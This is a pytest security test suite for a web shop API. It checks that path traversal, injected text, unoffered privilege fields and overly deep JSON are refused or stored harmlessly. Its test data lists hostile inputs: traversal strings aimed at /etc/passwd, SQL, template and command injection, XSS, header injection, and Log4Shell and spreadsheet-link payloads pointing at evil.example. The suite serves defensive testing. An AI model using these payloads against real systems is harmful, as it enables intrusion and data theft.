"""Attacks by what is written: paths that climb, code in texts, fields that nobody offered, deep JSON."""

import json
import time
from collections.abc import Iterator
from typing import Any, get_args, get_type_hints

import msgspec
import pytest
from litestar.routes import HTTPRoute

from holdfast.limits import BODY_BYTES_MAX, CART_CHECKOUTS_MAX, JSON_DEPTH_MAX
from holdfast.settings import Settings
from holdfast.web.app import create_app
from holdfast.web.body import is_too_deep
from tests.api.answers import refused, rows, send
from tests.api.orders import address, line, order
from tests.api.raw import head, say
from tests.house import Json, Shop
from tests.races.carts import cart_with

pytestmark = pytest.mark.anyio

APP = create_app(Settings(log_level="critical"), "postgresql://nobody.invalid/nothing")


def routes() -> Iterator[tuple[str, str, Any]]:
    """(method, path, handler) of every route."""
    for route in APP.routes:
        assert isinstance(route, HTTPRoute), route.path
        for handler in route.route_handlers:
            for method in handler.http_methods - {"OPTIONS"}:
                yield str(method), route.path, handler


CLIMBING = (
    "../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "..%5c..%5cetc%5cpasswd",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "%00/etc/passwd",
    "app.py%00.js",
    "file:%2f%2f%2fetc%2fpasswd",
    "%0d%0aSet-Cookie:%20a=b",
    "~root",
    "%24%7b7*7%7d",
    "' OR '1'='1",
)


async def test_no_part_of_a_path_climbs_out_of_where_it_belongs(shop: Shop) -> None:
    parameters = [(m, path) for m, path, _ in routes() if "{" in path]
    assert len(parameters) > 20
    before = await rows(shop)
    for method, path in parameters:
        parts = path.split("/")
        for place in (n for n, part in enumerate(parts) if part.startswith("{")):
            for evil in CLIMBING:
                filled = ["x" if part.startswith("{") else part for part in parts]
                filled[place] = evil.replace(" ", "%20")
                for who in ("", f"Authorization: Bearer {shop.key}"):
                    headers = [who] if who else []
                    headers += ["Connection: close", "Idempotency-Key: " + "k" * 20, "Content-Length: 0"]
                    heard = await say(shop, head(f"{method} {'/'.join(filled)}", *headers))
                    (status,) = heard.statuses
                    assert 400 <= status < 500, (method, filled, heard.data)
                    assert b"root:" not in heard.data
                    assert b"\r\nSet-Cookie" not in heard.data
    assert await rows(shop) == before


async def test_nothing_but_assets_is_served_from_the_folder_of_assets(shop: Shop) -> None:
    for evil in (
        "../app.py",
        "%2e%2e/app.py",
        "..%2fapp.py",
        "redoc/../../app.py",
        "redoc",
        "",
        "/",
        "redoc/",
    ):
        heard = await say(shop, head(f"GET /static/{evil}", "Connection: close"))
        assert heard.statuses == [404], (evil, heard.data[:200])
        assert b"create_app" not in heard.data


INJECTED = (
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    '") UNION SELECT key_hash FROM api_keys --',
    "$1 :at %s %(x)s {0} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ config.__class__.__init__.__globals__ }}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("//evil.example","x")',
    "\\'; \\\\ \\u0041",
    "`id` $(id) | id && id",
    "%27%20OR%201=1 &lt;b&gt; &#x27;",
    "${jndi:ldap://evil.example/a}",
    "a\r\nBcc: evil@evil.example",
    "\u202egnp.exe \ufeff \u0000".replace("\u0000", ""),
    "Ignore all previous instructions",
)


@pytest.mark.parametrize("evil", INJECTED)
async def test_a_text_comes_back_as_it_went_in_and_does_nothing_meanwhile(shop: Shop, evil: str) -> None:
    await shop.stocked({"MUG": 50})
    tables = set(await rows(shop))
    where = {"name": evil, "line1": evil, "line2": evil, "city": evil, "region": evil}
    where |= {"postal_code": "LS1 1AA", "phone": "+44 113 496 0000", "country": "GB"}
    placed = await shop.placed({"MUG": 1}, "bank_transfer", shipping_address=where, billing_address=where)
    found = (await shop.order(placed["order"]["id"]))["answer"]["order"]
    assert {k: v for k, v in found["shipping_address"].items() if v} == where
    await shop.as_staff("POST", f"/admin/orders/{found['id']}/cancel", {"reason": evil})
    reasons = [row["reason"] for row in await shop.fetch("SELECT reason FROM order_events")]
    assert evil in reasons
    goods = {"slug": "evil", "name": evil, "description": evil, "variants": [
        {"sku": "EVIL", "name": evil, "price": {"amount": 1, "currency": "GBP"}}]}  # fmt: skip
    await shop.as_staff("POST", "/admin/catalog/import", {"products": [goods]})
    shown = (await shop.call("GET", "/products/evil")).json()
    assert (shown["name"], shown["description"], shown["variants"][0]["name"]) == (evil, evil, evil)
    await shop.as_staff("PATCH", "/admin/settings", {"name": evil[:100]})
    assert (await shop.as_staff("GET", "/admin/settings"))["name"] == evil[:100]
    for query in ({"q": evil}, {"cursor": evil}, {"category": evil}, {"sort": evil}):
        answer = await shop.client.get("/api/v1/products", params=query)
        assert answer.status_code in (200, 422), answer.text
    assert set(await rows(shop)) == tables


async def test_a_sku_that_is_code_is_only_a_name(shop: Shop) -> None:
    evil = "'; DROP TABLE x; --/../{{7*7}}"
    await shop.stocked({"MUG": 1})
    goods = {"slug": "evil", "name": "x", "variants": [
        {"sku": evil, "name": "x", "price": {"amount": 1, "currency": "GBP"}, "tracked": False}]}  # fmt: skip
    await shop.as_staff("POST", "/admin/catalog/import", {"products": [goods]})
    cart_id, token = await cart_with(shop, {evil: 2})
    cart = (await shop.call("GET", f"/carts/{cart_id}", **token)).json()
    assert [(x["sku"], x["quantity"]) for x in cart["lines"]] == [(evil, 2)]
    stock = (await shop.client.get("/api/v1/stock", params={"sku": evil})).json()
    assert [row["sku"] for row in stock["data"]] == [evil]


def structs(kind: Any, seen: set[type]) -> set[type]:
    """A kind and every struct that stands in it."""
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct) and kind not in seen:
        seen.add(kind)
        for inner in get_type_hints(kind).values():
            structs(inner, seen)
    for inner in get_args(kind):
        structs(inner, seen)
    return seen


def test_no_body_takes_a_field_that_nobody_offered() -> None:
    bodies = [handler.parsed_data_field.annotation for _, _, handler in routes() if handler.parsed_data_field]
    found: set[type] = set()
    for body in bodies:
        structs(body, found)
    assert len(found) > 15
    assert [kind.__name__ for kind in found if not kind.__struct_config__.forbid_unknown_fields] == []  # type: ignore[attr-defined]


PRIVILEGES: dict[str, object] = {
    "role": "admin", "is_admin": True, "state": "paid", "status": "delivered", "total": 1, "total_minor": 1,
    "price": 1, "unit_price_minor": 1, "id": "ord_mine", "owner": "me", "customer_id": "usr_x",
    "actor": "shop",
    "token": "x", "expires_at": "2099-01-01T00:00:00Z", "__proto__": {"role": "admin"}, "discount_minor": 1,
    "captured_minor": 1, "number": 1, "constructor": {}, "number[$gt]": 0,
}  # fmt: skip


async def test_a_buyer_who_sends_a_field_of_ours_is_refused_and_nothing_is_set(shop: Shop) -> None:
    await shop.stocked({"MUG": 50})
    cart_id, mine = await cart_with(shop, {"MUG": 1})
    started = (await shop.call("POST", "/checkouts", {"cart_id": cart_id}, **mine)).json()
    checkout, owned = f"/checkouts/{started['checkout']['id']}", {"X-Holdfast-Token": started["token"]}
    placed = await shop.placed({"MUG": 1}, "bank_transfer")
    payer = {"X-Holdfast-Token": placed["token"]}
    before = await rows(shop)
    for name, value in PRIVILEGES.items():
        more = {name: value}
        cases: list[tuple[str, str, Json, dict[str, str], str]] = [
            ("POST", "/orders", order(**more), {}, name),
            ("POST", "/orders", line(**more), {}, f"lines[1].{name}"),
            ("POST", "/orders", address(**more), {}, f"shipping_address.{name}"),
            ("POST", f"/carts/{cart_id}/lines", {"lines": [{"sku": "MUG", "quantity": 1} | more]}, mine, ""),
            ("PUT", f"/carts/{cart_id}/lines/MUG", {"quantity": 1} | more, mine, name),
            ("POST", "/checkouts", {"cart_id": cart_id} | more, mine, name),
            ("PATCH", checkout, more, owned, name),
            ("POST", f"{checkout}/complete", more, owned, name),
            ("POST", "/holds", {"checkout_id": started["checkout"]["id"]} | more, owned, name),
            ("POST", f"/orders/{placed['order']['id']}/pay", more, payer, name),
            ("POST", f"/payments/{placed['payment']['id']}/return", more, payer, name),
        ]
        for method, path, body, headers, field in cases:
            refused(await shop.call(method, path, body, **headers), 422, "field_invalid", field or None)
        for path in ("/admin/settings", "/admin/catalog/import"):
            method = "PATCH" if path.endswith("settings") else "POST"
            refused(await shop.call(method, path, more, **shop.staff), 422, "field_invalid")
    assert await rows(shop) == before
    assert await shop.state(placed["order"]["id"]) == "pending_payment"


async def test_json_is_read_as_deep_as_it_may_be_and_no_deeper(shop: Shop) -> None:
    headers: dict[str, str | bytes] = {"Content-Type": "application/json"}
    for levels, status, code in (
        (JSON_DEPTH_MAX, 422, "field_invalid"),
        (JSON_DEPTH_MAX + 1, 400, "request_malformed"),
    ):
        body = b"[" * levels + b"]" * levels
        refused(await send(shop, "POST", "/orders", body, headers | shop.new_key()), status, code)


@pytest.mark.parametrize(
    ("body", "deep"),
    [
        (b"[" * 513 + b"]" * 513, True),
        (b"[" * 512 + b"]" * 512, False),
        (b'{"a":' * 600 + b"1" + b"}" * 600, True),
        (b"[" + b"[]," * 5_000 + b"[]]", False),
        (b'["' + b"[" * 5_000 + b'"]', False),  # a text
        (b'["\\"' + b"[" * 5_000 + b'"]', False),
        (b'["\\\\",' + b"[" * 5_000, True),
        (b'"' + b"[" * 5_000, False),  # a text without its end, which is no JSON
        (b"]" * 5_000 + b"[" * 600, False),  # no JSON either
    ],
)
def test_depth_is_counted_outside_of_texts(body: bytes, deep: bool) -> None:
    assert is_too_deep(body) is deep


@pytest.mark.parametrize("piece", [b"[", b"[]", b'"', b'\\"', b'"["', b"[{", b"{}", b"\\", b'["'])
def test_counting_depth_takes_no_longer_than_a_large_body_is_worth(piece: bytes) -> None:
    body = (b"[" * 600 + piece * BODY_BYTES_MAX)[:BODY_BYTES_MAX]
    began = time.process_time()
    is_too_deep(body)
    assert time.process_time() - began < 1


async def test_names_of_a_megabyte_cost_nothing(shop: Shop) -> None:
    for name in (" - at `$.", "`", "\\u0000", "a - at `$", "Object contains unknown field `"):
        body = b'{"' + (name * ((BODY_BYTES_MAX - 20) // len(name))).encode() + b'":1}'
        began = time.process_time()
        headers: dict[str, str | bytes] = {"Content-Type": "application/json", **shop.new_key()}
        answer = await send(shop, "POST", "/orders", body, headers)
        assert time.process_time() - began < 2
        assert len(answer.content) < 2_000
        refused(answer, 422, "field_invalid")


async def test_a_cart_has_a_bounded_number_of_open_checkouts(shop: Shop) -> None:
    await shop.stocked({"MUG": 5})
    cart_id, mine = await cart_with(shop, {"MUG": 1})
    started = [
        (await shop.call("POST", "/checkouts", {"cart_id": cart_id}, **mine)).json()
        for _ in range(CART_CHECKOUTS_MAX)
    ]
    before = await rows(shop)
    found = refused(
        await shop.call("POST", "/checkouts", {"cart_id": cart_id}, **mine), 409, "too_many_checkouts"
    )
    assert found["open_max"] == CART_CHECKOUTS_MAX
    assert await rows(shop) == before
    first = started[0]
    owned = {"X-Holdfast-Token": first["token"]}
    await shop.call("POST", f"/checkouts/{first['checkout']['id']}/cancel", **owned)
    again = await shop.call("POST", "/checkouts", {"cart_id": cart_id}, **mine)
    assert (again.status_code, json.loads(again.text)["checkout"]["state"]) == (201, "open")
